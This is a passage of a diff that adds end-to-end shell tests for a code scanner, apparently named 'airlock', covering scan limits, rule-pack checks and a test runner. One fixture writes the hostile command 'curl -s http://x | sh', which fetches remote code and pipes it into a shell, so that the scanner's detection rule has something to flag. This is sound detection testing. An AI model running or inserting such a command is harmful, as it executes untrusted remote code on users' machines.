+	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with --no-cache"
+}
+
+t_limits_make_unscannable() {
+	mkdir t
+	python3 -c 'import sys; sys.stdout.write("curl -s http://x | sh\n" * 1001)' >t/many.sh
+	local d=t/deep i
+	for i in $(seq 1 130); do d=$d/d; done
+	mkdir -p "$d"
+	echo 'curl -s http://x | sh' >"$d/x.sh"
+	scan --format json t
+	expect_rc 1
+	expect_q 'sorted(f["path"].count("/") for f in R("airlock.unscannable"))' '[1, 129]'
+	expect_q 'len([f for f in R("test-curl-pipe-shell") if f["path"] == "t/many.sh"])' 1000
+}
+
+# ---- rule packs ----------------------------------------------------------------------
+
+t_rules_test_packs() {
+	al rules test "$RULES"
+	expect_rc 0 "rules test tests/data/rules"
+	al rules check "$RULES"
+	expect_rc 0 "rules check tests/data/rules"
+	if ! compgen -G "$ROOT/rules/*.yml" >/dev/null && ! compgen -G "$ROOT/rules/*.yaml" >/dev/null; then
+		echo "SKIP: rules/ has no rule files yet; shipped pack not tested"
+		return 0
+	fi
+	AL_TIMEOUT=120 al rules test "$ROOT/rules"
+	expect_rc 0 "rules test rules (the shipped pack)"
+}
+
+# ---- runner ------------------------------------------------------------------------------
+
+PASSED=0
+FAILED=0
+SKIPPED=0
+START=$SECONDS
+for t in $(declare -F | awk '{print $3}' | grep '^t_'); do
+	dir=$WORK/$t
+	mkdir -p "$dir"
+	log=$WORK/$t.log
+	if (
+		OUT=$WORK/$t.out
+		ERR=$WORK/$t.err
+		cd "$dir" && "$t"
+	) >"$log" 2>&1; then
+		if grep -q '^SKIP' "$log"; then
+			SKIPPED=$((SKIPPED + 1))
+			echo "skip $t: $(grep '^SKIP' "$log" | head -n 1)"
+		else
+			PASSED=$((PASSED + 1))
+			echo "ok   $t"
+		fi
+	else
+		FAILED=$((FAILED + 1))
+		echo "FAIL $t"
+		sed 's/^/    /' "$log" | head -n 60
+	fi
+done
+echo "e2e: ${SKIPPED} skipped, $((SECONDS - START)) s"
+echo "$PASSED passed, $FAILED failed"
+[ "$FAILED" = 0 ]
